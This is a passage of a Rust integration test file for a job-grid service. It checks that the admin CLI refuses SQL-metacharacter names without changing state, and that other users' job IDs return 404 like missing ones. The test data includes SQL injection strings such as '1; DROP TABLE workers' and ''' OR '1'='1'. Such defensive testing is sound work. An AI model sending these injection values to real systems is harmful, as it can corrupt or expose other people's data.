    assert_eq!(grid.get(&bob, "/v1/jobs").await["jobs"], json!([]));
    bystander.finish().await;
    grid.assert_ledger_verifies();
    assert!(problems.is_empty(), "{problems:#?}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn sql_metacharacters_in_admin_cli_names_are_refused_and_change_nothing() {
    let grid = Grid::start().await;
    let alice = grid.user("alice", "10");
    let (worker_id, worker_token) = add_worker(&grid, "alice", "w1");
    let (mut worker, _) = welcomed(&grid, &worker_token, "w1").await;
    let bystander = Bystander::start(&grid);
    // The users other than the bystander, whose jobs and balance move meanwhile.
    let users = |grid: &Grid| -> Vec<Value> {
        let list: Value = serde_json::from_str(&grid.admin(&["user", "list", "--json"]))
            .expect("user list --json");
        let all = list.as_array().expect("a list").clone();
        assert!(all.iter().any(|u| u["user"] == "bystander"), "{list}");
        all.into_iter()
            .filter(|u| u["user"] != "bystander")
            .collect()
    };
    let users_before = users(&grid);
    let workers_before = grid.admin(&["worker", "list", "--json"]);
    // A NUL cannot be passed in argv at all, so it is left out here.
    let mut commands: Vec<Vec<String>> = Vec::new();
    for s in HOSTILE
        .iter()
        .chain(&["alice' --", "alice\"", "alice;", "alice%"])
    {
        let s = s.to_string();
        commands.push(vec!["user".into(), "add".into(), s.clone()]);
        commands.push(vec![
            "worker".into(),
            "add".into(),
            "--owner".into(),
            s.clone(),
        ]);
        commands.push(vec![
            "worker".into(),
            "add".into(),
            "--owner".into(),
            "alice".into(),
            "--name".into(),
            s.clone(),
        ]);
        commands.push(vec!["user".into(), "token".into(), s]);
    }
    // Names are case-sensitive: ALICE is not alice, so this must not rotate her token.
    commands.push(vec!["user".into(), "token".into(), "ALICE".into()]);
    for id in [
        "1 OR 1=1",
        "1; DROP TABLE workers",
        "' OR '1'='1",
        "0",
        "-1",
        "99999",
    ] {
        commands.push(vec!["worker".into(), "revoke".into(), id.into()]);
    }
    // Four at a time, while alice's worker keeps heartbeating.
    let dir = grid.dir.path().to_owned();
    let mut runs = tokio::task::spawn_blocking(move || {
        std::thread::scope(|scope| {
            for chunk in commands.chunks(commands.len().div_ceil(4)) {
                let dir = &dir;
                scope.spawn(move || {
                    for args in chunk {
                        let args: Vec<&str> = args.iter().map(String::as_str).collect();
                        admin_fails(dir, &args);
                    }
                });
            }
        });
    });
    loop {
        tokio::select! {
            done = &mut runs => { done.expect("admin commands"); break; }
            // The heartbeat period of a live worker, not a synchronisation.
            _ = tokio::time::sleep(Duration::from_millis(500)) => {
                send_json(&mut worker, &heartbeat()).await;
            }
        }
    }
    let user_list = users(&grid);
    let worker_list = grid.admin(&["worker", "list", "--json"]);
    assert_eq!(
        user_list, users_before,
        "a refused user command changed the users"
    );
    assert_eq!(
        worker_list, workers_before,
        "a refused worker command changed the workers"
    );
    // Alice's token was not rotated, and her worker was not revoked.
    assert_eq!(grid.get(&alice, "/v1/balance").await["balance"], 10);
    send_json(&mut worker, &heartbeat()).await;
    match next(&mut worker, 1.5).await {
        Got::Silent => {}
        other => panic!("alice's worker was disturbed: {other:?}"),
    }
    let w = worker_status(&grid, &alice, worker_id)
        .await
        .expect("listed");
    assert_eq!(w["status"], "online", "{w}");
    bystander.finish().await;
    grid.assert_ledger_verifies();
}

// ---------------------------------------------------------------------------------
// Other users' jobs
// ---------------------------------------------------------------------------------

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn another_users_job_ids_are_404_exactly_like_missing_ones() {
    let grid = Grid::start().await;
    let alice = grid.user("alice", "10");
    let bob = grid.user("bob", "10");
    let (_, worker_token) = add_worker(&grid, "bob", "w1");
    let bystander = Bystander::start(&grid);
    let submit = |code: &'static str| {
        let grid = &grid;
        let alice = alice.clone();
        async move {
            grid.submit(&alice, json!({"language": "bash", "code": code}))
                .await["job_id"]
                .as_u64()
                .unwrap()
        }
    };
    // Alice has a running job, a finished (cancelled) one and a queued one.
    let (mut worker, _) = welcomed(&grid, &worker_token, "w1").await;
    let running = submit("echo running").await;
    let (job_id, attempt, _) = expect_assign(&mut worker).await;
    assert_eq!(job_id, running);
    send_json(
        &mut worker,
        &json!({"type": "started", "job_id": running, "attempt": attempt}),
    )
    .await;
    wait_status(&grid, &alice, running, "running").await;
    let finished = submit("echo finished").await;
    // The worker has one slot, so this one stays queued until it is cancelled.
    let response = grid
        .http
        .post(format!("{}/v1/jobs/{finished}/cancel", grid.url))
        .bearer_auth(&alice)
        .send()
        .await
        .unwrap();
    assert_eq!(response.status(), 200);
    let queued = submit("echo queued").await;

    let answer = |method: &'static str, id: u64| {
        let grid = &grid;
        let bob = bob.clone();
        async move {
            let request = match method {
                "GET" => grid.http.get(format!("{}/v1/jobs/{id}", grid.url)),
                _ => grid.http.post(format!("{}/v1/jobs/{id}/cancel", grid.url)),
            };
            let response = request.bearer_auth(&bob).send().await.unwrap();
            let status = response.status().as_u16();
            let body = response.text().await.unwrap();
            (status, body)
        }
    };
    let (status, missing) = answer("GET", 999_999).await;
    assert_eq!(status, 404);
    error_body("application/json", &missing, "not_found", "a missing job");
    let (status, missing_cancel) = answer("POST", 999_999).await;
    assert_eq!(status, 404);
    assert_eq!(missing_cancel, missing);
    for id in [running, finished, queued] {
        send_json(&mut worker, &heartbeat_holding(&[(running, attempt)])).await;
        for method in ["GET", "POST"] {
            let (status, body) = answer(method, id).await;
            assert_eq!(
                (status, body.as_str()),
                (404, missing.as_str()),
                "bob's {method} of alice's job {id} is told apart from a missing job"
            );
        }
    }
    // Bob's list and pagination show none of alice's jobs.
    let list = grid
        .get(&bob, &format!("/v1/jobs?before={}", queued + 1))
        .await;
    assert_eq!(list["jobs"], json!([]));
    let list = grid.get(&bob, "/v1/jobs?status=running").await;
    assert_eq!(list["jobs"], json!([]));

    // Nothing of alice's changed.
    assert_eq!(
        grid.get(&alice, &format!("/v1/jobs/{running}")).await["status"],
        "running"
    );
    assert_eq!(
        grid.get(&alice, &format!("/v1/jobs/{finished}")).await["status"],
        "cancelled"
    );
    assert_eq!(
        grid.get(&alice, &format!("/v1/jobs/{queued}")).await["status"],
        "queued"
    );
    finish_job(&mut worker, running, attempt, "done\n", "").await;
    wait_status(&grid, &alice, running, "succeeded").await;
    bystander.finish().await;
    grid.assert_ledger_verifies();
}
